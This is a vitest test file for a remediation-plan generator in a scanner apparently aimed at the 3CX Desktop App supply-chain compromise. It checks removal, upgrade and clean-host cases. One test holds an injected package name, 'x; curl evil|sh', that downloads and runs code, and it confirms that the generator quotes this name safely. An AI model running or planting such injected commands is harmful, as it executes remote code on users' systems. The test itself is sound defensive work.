import type { AppVerdict, InstalledApp } from 'chainsweep/core/app.js';
import { describe, expect, it } from 'vitest';
import { remediationPlan } from './remediation-plan.js';

const app = (name: string, source: InstalledApp['source'], location: string): InstalledApp =>
  ({ name, version: '18.12.416', source, location }) as InstalledApp;

const verdict = (index: number, value: AppVerdict['verdict']): AppVerdict => ({
  app: index,
  packId: '3cx-2023',
  productId: '3cx-desktopapp',
  product: '3CX Desktop App',
  verdict: value,
  advisory: 'https://www.3cx.com/blog/news/desktopapp-security-alert-updates/',
  affected: ['18.12.416'],
  fixed: ['18.12.422'],
});

describe('remediationPlan', () => {
  it('removes an affected install with chainsweep remediate, upgrades a package, and leaves a fixed one', () => {
    const apps = [
      app('3CX Desktop App', 'windows-uninstall', 'HKU\\S-1-5-21\\...\\3CXDesktopApp'),
      app('3cxdesktopapp', 'dpkg', '/var/lib/dpkg/status'),
      app('Other', 'windows-uninstall', 'HKLM\\...\\Other'),
    ];
    const plan = remediationPlan(
      apps,
      [verdict(0, 'affected'), verdict(1, 'affected'), verdict(2, 'fixed')],
      [],
    );
    expect(plan.commands).toEqual([
      'chainsweep remediate',
      'chainsweep remediate --apply',
      'apt-get update && apt-get install --only-upgrade 3cxdesktopapp',
    ]);
    expect(plan.installs.map((i) => [i.app, i.action, i.fixed])).toEqual([
      ['3CX Desktop App', 'remove', ['18.12.422']],
      ['3cxdesktopapp', 'upgrade', ['18.12.422']],
    ]);
    expect(plan.notes).toEqual([]);
  });

  it('quotes a hostile package name, and names file hits and beacons as what no command removes', () => {
    const apps = [app('x; curl evil|sh', 'dpkg', '/var/lib/dpkg/status'), app('-f', 'apk', '/lib/apk/db')];
    const plan = remediationPlan(
      apps,
      [verdict(0, 'affected'), verdict(1, 'affected'), verdict(9, 'affected')],
      [
        {
          kind: 'sha256',
          indicatorId: 'ffmpeg',
          packId: '3cx-2023',
          title: 'ffmpeg.dll',
          subject: { path: 'C:\\x\\ffmpeg.dll' },
        },
        { kind: 'domain', indicatorId: 'c2', packId: '3cx-2023', title: 'C2', subject: {} },
      ],
    );
    expect(plan.commands).toEqual(["apt-get update && apt-get install --only-upgrade 'x; curl evil|sh'"]);
    expect(plan.installs[1]).not.toHaveProperty('command');
    expect(plan.files).toEqual([
      { path: 'C:\\x\\ffmpeg.dll', indicatorId: 'ffmpeg', packId: '3cx-2023', title: 'ffmpeg.dll' },
    ]);
    expect(plan.notes).toHaveLength(3);
  });

  it('is empty for a clean host', () => {
    expect(
      remediationPlan([app('Other', 'homebrew', '/opt/homebrew')], [verdict(0, 'not-affected')], []),
    ).toEqual({
      commands: [],
      installs: [],
      files: [],
      notes: [],
    });
  });
});
